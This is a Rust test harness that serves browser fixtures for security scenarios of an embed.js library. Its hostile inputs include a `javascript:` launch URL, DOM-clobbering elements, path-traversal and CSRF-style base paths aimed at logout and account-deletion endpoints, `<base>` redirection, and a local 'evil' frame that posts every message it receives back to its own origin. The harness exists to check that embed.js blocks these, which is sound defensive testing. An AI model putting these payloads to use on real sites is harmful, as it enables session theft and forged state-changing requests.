//! A host app for the embed.js scenarios, on either adapter: fixture pages under a strict CSP
//! (and two without any, where only embed.js can stop an attack), the library under `/meshes`,
//! a copy of embed.js under a fake mount (`/fake`) whose mint answers a hostile launch URL,
//! state-changing endpoints an attacker would aim at (`POST /logout`,
//! `POST /api/account/delete`), a log of every request the host received, and a second origin
//! ("evil") that counts every request it gets, and busy mounts (`/busy/<tab>`) whose mint
//! always answers 503 with `Retry-After: 1`, logging when each attempt arrived.

use std::net::TcpListener;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Instant;

use meshes_core::routes::{MintHints, Resolution};
use meshes_core::session::{EmbedSessions, Grant, MintedSession};
use meshes_core::store::UserKey;
use meshes_mock::MockMeshes;
use meshes_test_support::host::Host as App;

use crate::example_apps::Adapter;

/// The CSP of every fixture: nothing inline, nothing from elsewhere, except frames (the
/// library adds the embed origin) and, on the `evil-base` page, requests to the evil origin
/// (so that only embed.js's own check can stop them).
fn csp(evil: Option<&str>) -> String {
    let connect = evil.map_or(String::new(), |e| format!("; connect-src 'self' {e}"));
    format!("default-src 'self'; style-src 'self' 'unsafe-inline'{connect}")
}

/// Records every `meshes:*` event into `window.__events` (loaded before embed.js).
const WATCH_JS: &str = r#"window.__events = [];
['mounted', 'authenticated', 'refreshed', 'navigate', 'error', 'expired', 'logout'].forEach(function (t) {
  document.addEventListener('meshes:' + t, function (e) {
    window.__events.push({ type: t, id: e.target === document ? 'document' : e.target.id,
                           detail: e.detail, t: performance.now() });
  });
});"#;

/// What `/fake/sessions` answers: a well-formed mint with a `javascript:` launch URL.
const FAKE_MINT: &str = r#"{"session_id":"sess_fake","access_token":"tok_fake","launch_url":"javascript:parent.__pwned=1","expires_at":"2099-01-01T00:00:00Z","generation":0}"#;

/// Base paths an attacker puts in markup: each must fetch nothing (#20).
pub(crate) const HOSTILE_BASE_PATHS: [&str; 12] = [
    "/logout?",
    "/logout#",
    "/logout?x=",
    "/meshes?",
    "/meshes#",
    "/meshes?x=",
    "/meshes/../logout",
    "/meshes/%2e%2e/logout",
    "/meshes/%2E%2E/api/account/delete?",
    "/api/account/delete?",
    "/other",
    "/meshes/sessions",
];

/// Which CSP a fixture is served with.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Policy {
    Strict,
    /// Strict, but the evil origin may be fetched.
    EvilAllowed,
    /// No CSP at all: only embed.js stands between the markup and the requests.
    None,
}

/// The body of fixture `name`, its CSP, and the mount whose embed.js it loads.
fn fixture(name: &str, evil: &str) -> Option<(String, Policy)> {
    let (mut policy, mut mount) = (Policy::Strict, "/meshes".to_owned());
    // Whether the head loads embed.js (the `base-client` page loads it in its body).
    let mut head_script = true;
    let body = match name {
        busy if busy.starts_with("busy-") => {
            mount = format!("/busy/{}", &busy[5..]);
            r#"<div id="a" data-meshes-embed></div>"#.into()
        }
        "evil-base" => format!(
            r#"<div id="a" data-meshes-embed data-base-path="//{host}/meshes" data-min-height="abc"></div>
<meshes-embed id="b" base-path="{evil}/meshes"></meshes-embed>
<div id="c" data-meshes-embed data-base-path="/\{host}/meshes"></div>"#,
            host = evil.trim_start_matches("http://")
        ),
        "js-launch" => {
            mount = "/fake".into();
            r#"<div id="a" data-meshes-embed></div>"#.into()
        }
        "hostile" => {
            policy = Policy::None;
            // An <img name="currentScript"> tries to stand in for embed.js's own script
            // element (DOM clobbering); sanitizers keep `name` on images.
            let mut body = String::from(r#"<img name="currentScript" src="/logout?clobber">"#);
            for (i, p) in HOSTILE_BASE_PATHS.iter().enumerate() {
                body.push_str(&format!(
                    r#"<div id="d{i}" data-meshes-embed data-base-path="{p}" data-retries="1000"></div><meshes-embed id="e{i}" base-path="{p}"></meshes-embed>"#
                ));
            }
            body.push_str(r#"<div id="ok" data-meshes-embed data-base-path="/meshes/"></div>"#);
            body
        }
        "evil-base-tag" => {
            policy = Policy::None;
            format!(r#"<base href="{evil}/"><div id="a" data-meshes-embed></div>"#)
        }
        // #28: a `<base>` to the other origin before the library's own tag, in a page with no
        // CSP: only the tag's integrity stands between the page and the other origin's script.
        "base-client" => {
            policy = Policy::None;
            head_script = false;
            format!(
                r#"<base href="{evil}/"><div id="a" data-meshes-embed></div>{}"#,
                meshes_core::embed_js::ScriptTag::new("/meshes")
            )
        }
        // #28: an injected iframe that asks to become the embed, beside a real one.
        "inject-iframe" => r#"<iframe id="x" name="x" class="overlay" data-meshes-embed></iframe><div id="a" data-meshes-embed></div>"#.into(),
        // #28: 25 injected containers.
        "many" => (0..25).map(|i| format!(r#"<div id="m{i}" data-meshes-embed></div>"#)).collect(),
        // #28: elements named after what embed.js calls on `window` and `document`.
        "clobber" => {
            policy = Policy::None;
            let names = ["MeshesEmbed", "addEventListener", "readyState", "querySelectorAll",
                "createElement", "currentScript", "body", "visibilityState", "dispatchEvent"];
            let mut body = String::new();
            for (i, name) in names.iter().enumerate() {
                body.push_str(&match i % 3 {
                    0 => format!(r#"<img name="{name}">"#),
                    1 => format!(r#"<form name="{name}"></form>"#),
                    _ => format!(r#"<embed name="{name}">"#),
                });
            }
            body.push_str(r#"<div id="a" data-meshes-embed></div>"#);
            body
        }
        "live" => r#"<div id="a" data-meshes-embed></div>"#.into(),
        "two" => r#"<div id="rules" data-meshes-embed data-launch-page="rules"></div>
<meshes-embed id="conn" launch-page="connections"></meshes-embed>"#
            .into(),
        "one" => r#"<div id="a" data-meshes-embed data-timeout="1500" data-retries="1"></div>"#.into(),
        // #24: the host's loading markup, and an embed far below the fold.
        "loading" => r#"<div id="a" data-meshes-embed data-retries="1"><p id="spin">Loading…</p></div>"#.into(),
        "lazy" => r#"<div style="height:4000px">a tall page</div><div id="a" data-meshes-embed data-loading="lazy"></div>"#.into(),
        "refused" => r#"<div id="a" data-meshes-embed data-session-type="resource" data-resource-type="order" data-resource-id="o-1"></div>
<div id="b" data-meshes-embed data-launch-page="settings"></div>"#
            .into(),
        _ => return None,
    };
    if name == "evil-base" {
        policy = Policy::EvilAllowed;
    }
    let script = if head_script {
        format!(r#"<script src="{mount}/embed.js" defer></script>"#)
    } else {
        String::new()
    };
    let page = format!(
        r#"<!doctype html><html><head><meta charset="utf-8"><title>{name}</title>
<script src="/watch.js"></script>{script}</head>
<body>{body}</body></html>"#
    );
    Some((page, policy))
}

/// `/rendered/{name}` (#24): a page rendered with the session `MeshesSession` minted for it
/// (no CSP on the hostile ones: only embed.js and the server stand in the way); `None` for an
/// unknown name.
///
/// - `slow`: the library's markup, then a script that takes 1.5 s (`/slow.js`): the iframe
///   loads and says `meshes:ready` while the page is still being parsed.
/// - `hostile-frame`: injected markup naming the session and its real embed origin, around an
///   iframe on the evil origin that says ready and reports any message it gets.
/// - `hostile-origin`: the same, naming the evil origin as the embed origin.
/// - `gone`: the library's markup of a session revoked before the page was sent.
fn rendered(name: &str, session: &MintedSession, evil: &str) -> Option<(String, Policy)> {
    let (body, policy) = match name {
        "gone" => (session.embed("/meshes").id("a").to_string(), Policy::Strict),
        // #28: a `<base>` to the other origin before the library's markup, with no CSP.
        "base" => (
            format!(
                r#"<base href="{evil}/">{}"#,
                session.embed("/meshes").id("a")
            ),
            Policy::None,
        ),
        "slow" => (
            format!(
                r#"{}<script src="/slow.js"></script>"#,
                session.embed("/meshes").id("a")
            ),
            Policy::Strict,
        ),
        "hostile-frame" | "hostile-origin" => {
            let origin = match name {
                "hostile-frame" => session.launch_url.origin(),
                _ => evil,
            };
            let body = format!(
                r#"<div id="a" data-meshes-embed data-session-id="{}" data-embed-origin="{origin}"><script src="/meshes/embed.js"></script><iframe src="{evil}/frame"></iframe></div>"#,
                session.session_id
            );
            (body, Policy::None)
        }
        _ => return None,
    };
    let page = format!(
        r#"<!doctype html><html><head><meta charset="utf-8"><title>{name}</title>
<script src="/watch.js"></script></head><body>{body}</body></html>"#
    );
    Some((page, policy))
}

/// How long `/slow.js` takes.
const SLOW: std::time::Duration = std::time::Duration::from_millis(1500);

/// What the evil origin serves for any `.js` path: a script that says it ran.
const EVIL_JS: &str = "window.__evil = (window.__evil || 0) + 1;";

/// What the evil origin's `/frame` serves: a page that says `meshes:ready` to its parent and
/// reports every message it receives to `/got`.
const EVIL_FRAME: &str = r#"<!doctype html><script>
addEventListener('message', function (e) { fetch('/got', { method: 'POST', body: JSON.stringify(e.data) }); });
parent.postMessage({ type: 'meshes:ready' }, '*');
</script>"#;

/// A page (or 404) with its CSP, from axum.
fn axum_page(found: Option<(String, Policy)>, evil: &str) -> axum::response::Response {
    use axum::response::IntoResponse as _;
    let Some((page, policy)) = found else {
        return axum::http::StatusCode::NOT_FOUND.into_response();
    };
    let mut reply = axum::response::Html(page).into_response();
    if let Some(p) = policy_header(policy, evil) {
        let csp = axum::http::header::CONTENT_SECURITY_POLICY;
        reply.headers_mut().insert(csp, p.parse().unwrap());
    }
    reply
}

/// A page (or 404) with its CSP, from actix-web.
fn actix_page(found: Option<(String, Policy)>, evil: &str) -> actix_web::HttpResponse {
    let Some((page, policy)) = found else {
        return actix_web::HttpResponse::NotFound().finish();
    };
    let mut reply = actix_web::HttpResponse::Ok();
    reply.content_type("text/html; charset=utf-8");
    if let Some(p) = policy_header(policy, evil) {
        reply.insert_header(("content-security-policy", p));
    }
    reply.body(page)
}

/// The CSP header value of a fixture, if it has one.
fn policy_header(policy: Policy, evil: &str) -> Option<String> {
    match policy {
        Policy::Strict => Some(csp(None)),
        Policy::EvilAllowed => Some(csp(Some(evil))),
        Policy::None => None,
    }
}

/// The resolver's rule: the user from the `user` cookie (a test stand-in; the examples use
/// real sessions), hints accepted except a resource session (refused).
fn resolve(cookie: Option<&str>, hints: Option<&MintHints>) -> Resolution {
    let user = cookie.and_then(|c| {
        c.split(';')
            .find_map(|kv| kv.trim().strip_prefix("user="))
            .filter(|u| !u.is_empty())
    });
    match (user, hints) {
        (None, _) => Resolution::Nobody,
        (Some(_), Some(h)) if h.resource().is_some() => Resolution::Refused,
        (Some(u), Some(h)) => Resolution::User(UserKey::new(u), h.apply(Grant::new())),
        (Some(u), None) => Resolution::User(UserKey::new(u), Grant::new()),
    }
}

/// Every request the host received: `METHOD path?query`.
pub(crate) type RequestLog = meshes_test_support::host::RequestLog;

/// Every mint attempt at a busy mount: its tab and when it arrived.
pub(crate) type BusyLog = Arc<Mutex<Vec<(String, Instant)>>>;

/// What a busy mount's mint answers.
const BUSY: &str =
    r#"{"error":"upstream_unavailable","message":"meshes is unavailable; try again shortly"}"#;

/// A running host.
pub(crate) struct Host {
    pub(crate) url: String,
    evil_hits: Arc<AtomicUsize>,
    evil_got: Arc<AtomicUsize>,
    requests: RequestLog,
    pub(crate) busy: BusyLog,
    pub(crate) mock: MockMeshes,
}

impl Host {
    pub(crate) fn evil_hits(&self) -> usize {
        self.evil_hits.load(Ordering::SeqCst)
    }

    /// Messages the evil origin's `/frame` received (each reported to `/got`).
    pub(crate) fn evil_got(&self) -> usize {
        self.evil_got.load(Ordering::SeqCst)
    }

    /// Every request the host received so far.
    pub(crate) fn requests(&self) -> Vec<String> {
        self.requests.lock().unwrap().clone()
    }
}

/// The signed-out cookie that `/logout` and `/api/account/delete` answer with.
const SIGNED_OUT: &str = "user=; Path=/; Max-Age=0";

/// Starts the mock, the evil origin and the host on `adapter`.
pub(crate) async fn start(adapter: Adapter) -> Host {
    let mock = MockMeshes::start().await.unwrap();
    mock.set_early_refresh(true);
    // No per-user mint limit: the eviction scenario mints 25 sessions for one user in a row.
    let manager = mock.manager_builder().mint_rate(None).build();

    let evil_hits = Arc::new(AtomicUsize::new(0));
    let evil_listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let evil = format!("http://{}", evil_listener.local_addr().unwrap());
    let hits = evil_hits.clone();
    let evil_got = Arc::new(AtomicUsize::new(0));
    let got = evil_got.clone();
    // Every request counts, preflights included, except the browser's own favicon fetch.
    let evil_app = axum::Router::new()
        .route(
            "/frame",
            axum::routing::get(|| async { axum::response::Html(EVIL_FRAME) }),
        )
        .route(
            "/got",
            axum::routing::post(move || {
                got.fetch_add(1, Ordering::SeqCst);
                async { "" }
            }),
        )
        .fallback(move |uri: axum::http::Uri| {
            use axum::response::IntoResponse as _;
            if uri.path() != "/favicon.ico" {
                hits.fetch_add(1, Ordering::SeqCst);
            }
            let js = uri.path().ends_with(".js");
            async move {
                if js {
                    (
                        [(axum::http::header::CONTENT_TYPE, "text/javascript")],
                        EVIL_JS,
                    )
                        .into_response()
                } else {
                    "{}".into_response()
                }
            }
        });
    tokio::spawn(async move { axum::serve(evil_listener, evil_app).await.unwrap() });

    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    let requests = RequestLog::default();
    let busy = BusyLog::default();
    let logs = (requests.clone(), busy.clone());
    match adapter {
        Adapter::Axum => serve_axum(listener, manager, evil, logs),
        Adapter::Actix => serve_actix(listener, manager, evil, logs),
    }
    Host {
        url,
        evil_hits,
        evil_got,
        requests,
        busy,
        mock,
    }
}

/// The host app of the browser scenarios on `manager`: the `user` cookie as the user, every
/// request logged.
fn host(manager: EmbedSessions, log: RequestLog) -> App {
    App::new(manager, |headers, hints| {
        resolve(headers("cookie").as_deref(), hints)
    })
    .log_requests(log)
}

fn serve_axum(
    listener: TcpListener,
    manager: EmbedSessions,
    evil: String,
    (log, busy): (RequestLog, BusyLog),
) {
    use axum::extract::{Path, Query};
    use axum::http::header::{CONTENT_TYPE, SET_COOKIE};
    use axum::routing::{get, post};

    let revoker = manager.clone();
    host(manager, log)
        .axum_routes(move |app| {
            let evil = evil.clone();
            let rendered_evil = evil.clone();
            let revoker = revoker.clone();
            let busy = busy.clone();
            app
        .route(
                    "/rendered/{name}",
                    get(
                        move |Path(name): Path<String>, session: meshes_axum::MeshesSession| async move {
                            if name == "gone" {
                                let id = &session.session.session_id;
                                revoker.revoke(&session.user, id).await.unwrap();
                            }
                            axum_page(rendered(&name, &session.session, &rendered_evil), &rendered_evil)
                        },
                    ),
                )
                .route(
                    "/slow.js",
                    get(|| async {
                        tokio::time::sleep(SLOW).await;
                        ([(CONTENT_TYPE, "text/javascript")], "window.__slow = 1;")
                    }),
                )
                .route(
                    "/page/{name}",
                    get(move |Path(name): Path<String>| async move {
                        axum_page(fixture(&name, &evil), &evil)
                    }),
                )
                .route(
                    "/fake/embed.js",
                    get(|| async {
                        (
                            [(CONTENT_TYPE, "text/javascript")],
                            meshes_core::embed_js::SOURCE,
                        )
                    }),
                )
                .route(
                    "/logout",
                    post(|| async { ([(SET_COOKIE, SIGNED_OUT)], "signed out") }),
                )
                .route(
                    "/api/account/delete",
                    post(|| async { ([(SET_COOKIE, SIGNED_OUT)], "deleted") }),
                )
                .route(
                    "/watch.js",
                    get(|| async { ([(CONTENT_TYPE, "text/javascript")], WATCH_JS) }),
                )
                .route(
                    "/fake/sessions",
                    post(|| async { ([(CONTENT_TYPE, "application/json")], FAKE_MINT) }),
                )
                .route(
                    "/busy/{tab}/embed.js",
                    get(|| async {
                        (
                            [(CONTENT_TYPE, "text/javascript")],
                            meshes_core::embed_js::SOURCE,
                        )
                    }),
                )
                .route(
                    "/busy/{tab}/sessions",
                    post(move |Path(tab): Path<String>| async move {
                        busy.lock().unwrap().push((tab, Instant::now()));
                        (
                            axum::http::StatusCode::SERVICE_UNAVAILABLE,
                            [
                                (CONTENT_TYPE, "application/json"),
                                (axum::http::header::RETRY_AFTER, "1"),
                            ],
                            BUSY,
                        )
                    }),
                )
                .route(
                    "/login",
                    get(
                        |Query(q): Query<std::collections::HashMap<String, String>>| async move {
                            let user = q.get("user").cloned().unwrap_or_default();
                            ([(SET_COOKIE, format!("user={user}; Path=/"))], "signed in")
                        },
                    ),
                )
        })
        .serve_on(Adapter::Axum, listener);
}

fn serve_actix(
    listener: TcpListener,
    manager: EmbedSessions,
    evil: String,
    (log, busy): (RequestLog, BusyLog),
) {
    use actix_web::{HttpResponse, web};

    let revoker = manager.clone();
    host(manager, log)
        .actix_routes(move |cfg| {
            let evil = evil.clone();
            let rendered_evil = evil.clone();
            let busy = busy.clone();
            cfg.route(
                "/page/{name}",
                web::get().to(move |name: web::Path<String>| {
                    let evil = evil.clone();
                    async move { actix_page(fixture(&name, &evil), &evil) }
                }),
            )
            .route(
                "/watch.js",
                web::get().to(|| async {
                    HttpResponse::Ok()
                        .content_type("text/javascript")
                        .body(WATCH_JS)
                }),
            )
            .route("/rendered/{name}", {
                let evil = rendered_evil;
                let revoker = revoker.clone();
                web::get().to(
                    move |name: web::Path<String>, session: meshes_actix::MeshesSession| {
                        let evil = evil.clone();
                        let revoker = revoker.clone();
                        async move {
                            if name.as_str() == "gone" {
                                let id = &session.session.session_id;
                                revoker.revoke(&session.user, id).await.unwrap();
                            }
                            actix_page(rendered(&name, &session.session, &evil), &evil)
                        }
                    },
                )
            })
            .route(
                "/slow.js",
                web::get().to(|| async {
                    tokio::time::sleep(SLOW).await;
                    HttpResponse::Ok()
                        .content_type("text/javascript")
                        .body("window.__slow = 1;")
                }),
            )
            .route(
                "/fake/embed.js",
                web::get().to(|| async {
                    HttpResponse::Ok()
                        .content_type("text/javascript")
                        .body(meshes_core::embed_js::SOURCE)
                }),
            )
            .route(
                "/logout",
                web::post().to(|| async {
                    HttpResponse::Ok()
                        .insert_header(("set-cookie", SIGNED_OUT))
                        .body("signed out")
                }),
            )
            .route(
                "/api/account/delete",
                web::post().to(|| async {
                    HttpResponse::Ok()
                        .insert_header(("set-cookie", SIGNED_OUT))
                        .body("deleted")
                }),
            )
            .route(
                "/fake/sessions",
                web::post().to(|| async {
                    HttpResponse::Ok()
                        .content_type("application/json")
                        .body(FAKE_MINT)
                }),
            )
            .route(
                "/busy/{tab}/embed.js",
                web::get().to(|| async {
                    HttpResponse::Ok()
                        .content_type("text/javascript")
                        .body(meshes_core::embed_js::SOURCE)
                }),
            )
            .route(
                "/busy/{tab}/sessions",
                web::post().to(move |tab: web::Path<String>| {
                    busy.lock()
                        .unwrap()
                        .push((tab.into_inner(), Instant::now()));
                    async {
                        HttpResponse::ServiceUnavailable()
                            .content_type("application/json")
                            .insert_header(("retry-after", "1"))
                            .body(BUSY)
                    }
                }),
            )
            .route(
                "/login",
                web::get().to(
                    |q: web::Query<std::collections::HashMap<String, String>>| async move {
                        let user = q.get("user").cloned().unwrap_or_default();
                        HttpResponse::Ok()
                            .insert_header(("set-cookie", format!("user={user}; Path=/")))
                            .body("signed in")
                    },
                ),
            );
        })
        .serve_on(Adapter::Actix, listener);
}
